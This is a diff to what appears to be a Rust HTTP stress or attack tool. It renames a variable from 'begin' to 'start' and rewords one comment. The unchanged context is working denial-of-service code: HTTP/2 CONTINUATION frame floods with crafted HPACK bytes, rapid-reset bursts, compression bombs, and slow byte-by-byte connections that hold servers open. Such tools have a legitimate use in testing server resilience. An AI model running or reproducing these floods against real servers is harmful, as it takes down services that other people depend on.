@@ -35,7 +35,7 @@ const END_HEADERS: u8 = 4;
 /// `GET / http://localhost` in HPACK's static table (RFC 7541, appendix A).
 const GET: &[u8] = b"\x82\x86\x84\x41\x09localhost";
 
-/// Attacks with as many clients at once as the target says; each begins anew when the server is done with it.
+/// Attacks with as many clients at once as the target says; each starts anew when the server is done with it.
 pub(crate) async fn go_on(kind: AttackKind, target: &AttackTarget, tally: &mut OutcomeCounts) {
     let bomb = if kind == AttackKind::CompressionBombs { compression_bomb() } else { Vec::new() };
     let request = caller::request(kind);
@@ -73,10 +73,10 @@ async fn once(
             .await
         }
         AttackKind::Continuations => {
-            let begin = [&preface()[..], &frame(HEADERS, END_STREAM, 1, GET)].concat();
+            let start = [&preface()[..], &frame(HEADERS, END_STREAM, 1, GET)].concat();
             // A field of one letter each, which is not indexed: ten bytes of list for six on the wire, and more for its frame.
             let more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b").repeat(1000);
-            flood(target, &begin, |_| more.clone()).await
+            flood(target, &start, |_| more.clone()).await
         }
         AttackKind::RapidReset => {
             let burst = |round: u32| {
@@ -111,9 +111,9 @@ async fn connect(target: &AttackTarget) -> Result<TcpStream> {
 }
 
 /// A byte, a pause, a byte, until the server has something to say.
-async fn slow(target: &AttackTarget, begin: &str) -> Result<String> {
+async fn slow(target: &AttackTarget, start: &str) -> Result<String> {
     let mut stream = connect(target).await?;
-    stream.write_all(begin.as_bytes()).await?;
+    stream.write_all(start.as_bytes()).await?;
     let mut heard = Vec::new();
     loop {
         tokio::select! {
@@ -130,13 +130,13 @@ async fn slow(target: &AttackTarget, begin: &str) -> Result<String> {
 /// Everything at once, until the server has had enough.
 async fn flood(
     target: &AttackTarget,
-    begin: &[u8],
+    start: &[u8],
     more: impl Fn(u32) -> Vec<u8>,
 ) -> Result<String> {
     let (mut reader, mut writer) = connect(target).await?.into_split();
     let writing = async {
-        writer.write_all(begin).await?;
-        let mut sent = begin.len();
+        writer.write_all(start).await?;
+        let mut sent = start.len();
         for round in 0.. {
             if sent >= BOMB {
                 break;
